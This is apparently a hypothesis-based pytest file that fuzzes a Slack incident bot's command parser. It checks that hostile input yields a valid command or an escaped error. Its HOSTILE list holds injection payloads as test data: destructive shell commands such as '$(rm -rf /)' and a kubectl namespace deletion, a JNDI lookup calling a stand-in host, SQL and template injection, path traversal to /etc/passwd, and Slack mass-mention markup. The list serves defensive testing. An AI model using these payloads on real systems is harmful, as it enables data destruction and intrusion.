"""The `/incident` grammar fed anything: a typed command or a clear `CommandError`, always.

Property-based (hypothesis): arbitrary unicode, very long strings, Slack markup
(mentions, special mentions, links), template, SQL and shell injection attempts,
control characters. `parse` runs before the ack, so an exception here is a 500
to Slack and a user left without an answer; an echo of markup is a ping to the
whole channel or a forged link.
"""

from __future__ import annotations

import re
from datetime import timedelta

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from bot import commands as c
from bot.incidents.limits import TEXT_MAX, rendered_length
from bot.incidents.rules import ROLES, STATUSES, TITLE_MAX
from bot.runbooks import Runbooks, load_runbooks
from runbooks import BUNDLED

RUNBOOKS: Runbooks = load_runbooks(BUNDLED)
SEVERITIES = RUNBOOKS.severities

VERBS = [
    "",
    "help",
    "list",
    "declare",
    "severity",
    "sev",
    "status",
    "update",
    "note",
    "assign",
    *ROLES,
    "resolve",
    "reminders",
    "snooze",
    "diag",
    "mitigate",
    "action",
    "postmortem",
    "close",
    "DECLARE",
    "Severity",
]
HOSTILE = [
    "<!channel>",
    "<!here|here>",
    "<!everyone>",
    "<!subteam^S0SRE|sre>",
    "<@U0BOB|bob>",
    "<@U0BOB>",
    "<@W123ABC>",
    "<#C0GENERAL|general>",
    "<https://evil.example/login|docs>",
    "<mailto:x@evil.example|mail>",
    "<@U0BOB|<!channel>>",
    "`",
    "```",
    "*bold* _it_ ~strike~",
    "{{ 7*7 }}",
    "{% for x in range(10**9) %}{% endfor %}",
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE incidents;--",
    "1 OR 1=1",
    "$(rm -rf /)",
    "`id`",
    "| kubectl delete ns shop",
    "../../etc/passwd",
    "pod=../../secrets",
    "P0",
    "SEV1",
    "p99",
    "30m",
    "0s",
    "99999999999999999999h",
    "&amp;lt;",
    "&lt;!channel&gt;",
    "\x00",
    "\u202e",
    "\u200b",
    "\ufeff",
    "\r\n",
    "\t",
    "Ünïcode ✨ 火事",
    "🔥" * 40,
]
LONG = st.text(min_size=TEXT_MAX - 5, max_size=TEXT_MAX * 4)

fragments = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=30))
commands_text = st.builds(
    lambda verb, parts, spaces: verb + spaces + " ".join(parts),
    st.sampled_from(VERBS),
    st.lists(fragments, max_size=10),
    st.sampled_from([" ", "  ", "\t", "\n", "\u3000"]),
)
any_text = st.one_of(st.text(), commands_text, LONG.map(lambda t: "update " + t), LONG)

# The grammar's own usage text is the one place `<…>` may appear in an error.
STATIC_MARKUP = "<" + "|".join(ROLES) + ">"
USER_ID = re.compile(r"^[UW][A-Z0-9]{2,20}$")


def check_error(error: c.CommandError) -> None:
    """A clear answer: short, not empty, and no markup or code fence the user typed."""
    message = str(error)
    assert message.strip(), "an empty error message"
    assert len(message) <= 1000, f"a {len(message)}-character error message"
    shown = message.replace(STATIC_MARKUP, "")
    assert "<" not in shown and ">" not in shown, f"unescaped markup in {message!r}"
    assert "\x00" not in message


def check_command(command: c.Command) -> None:
    """What parses is within the limits the services and Slack rely on."""
    match command:
        case c.Declare():
            assert SEVERITIES.lookup(command.severity) is not None
            assert 0 < len(command.title) <= TITLE_MAX
            assert command.title == " ".join(command.title.split())
        case c.OpenDeclareForm():
            assert command.severity is None or command.severity in SEVERITIES.levels
        case c.SetSeverity():
            assert command.severity in SEVERITIES.levels
        case c.SetStatus():
            assert command.status in STATUSES
        case c.AssignRole():
            assert command.role in ROLES and USER_ID.match(command.user_id)
        case c.PostUpdate() | c.AddNote():
            assert len(command.text) > 0 and rendered_length(command.text) <= TEXT_MAX
        case c.Resolve():
            assert rendered_length(command.summary) <= TEXT_MAX
        case c.AddActionItem():
            assert len(command.text) > 0 and rendered_length(command.text) <= TEXT_MAX
            assert command.owner is None or USER_ID.match(command.owner)
        case c.Snooze():
            assert command.duration > timedelta(0)
        case c.RunDiagnostic() | c.RequestMitigation():
            words = [command.action, command.service, *command.args]
            assert (command.action is None) == (command.service is None)
            assert len([w for w in words if w]) <= 8
            assert all(w is None or (0 < len(w) <= 64 and w.strip() == w) for w in words)
        case c.Help() | c.ListIncidents() | c.ShowReminders() | c.PreviewPostmortem() | c.Close():
            pass
        case _:
            raise AssertionError(f"parse returned {command!r}, which is not a command")


def parse_checked(text: str) -> None:
    try:
        command = c.parse(text, SEVERITIES)
    except c.CommandError as error:
        check_error(error)
    else:
        check_command(command)


@settings(max_examples=300, deadline=timedelta(milliseconds=500))
@given(any_text)
@example("diag <!channel>")
@example("mitigate <https://evil.example|x>")
@example("snooze <!here>")
@example("snooze " + "9" * 5000 + "h")
@example("snooze 99999999999999999999h")
@example("snooze 0m")
@example("diag " + "a" * 64 + " checkout")
@example("commander <@U0BOB|<!channel>>")
@example("assign <!channel> <@U0BOB>")
@example("declare P1 \x00\x00")
@example("update \x00")
def test_any_text_parses_or_gets_a_clear_error(text: str) -> None:
    parse_checked(text)


@settings(
    max_examples=200,
    deadline=timedelta(milliseconds=500),
    suppress_health_check=[HealthCheck.too_slow],
)
@given(st.sampled_from(VERBS), st.sampled_from(HOSTILE), st.sampled_from(HOSTILE))
def test_markup_after_every_verb(verb: str, first: str, second: str) -> None:
    """Every subcommand, with markup as its first and second word."""
    parse_checked(f"{verb} {first} {second}")
    parse_checked(f"{verb} {first}")
    parse_checked(f"{verb} {first}{second}")


@pytest.mark.parametrize(
    "text",
    [
        "snooze <!channel>",
        "diag <!channel>",
        "mitigate <https://evil.example|docs>",
        "status <!here>",
        "<!channel> frobnicate",
    ],
)
def test_echoed_input_is_escaped(text: str) -> None:
    """The cases that once echoed markup back, spelled out (hypothesis found them)."""
    with pytest.raises(c.CommandError) as raised:
        c.parse(text, SEVERITIES)
    check_error(raised.value)
    assert "&lt;" in str(raised.value)
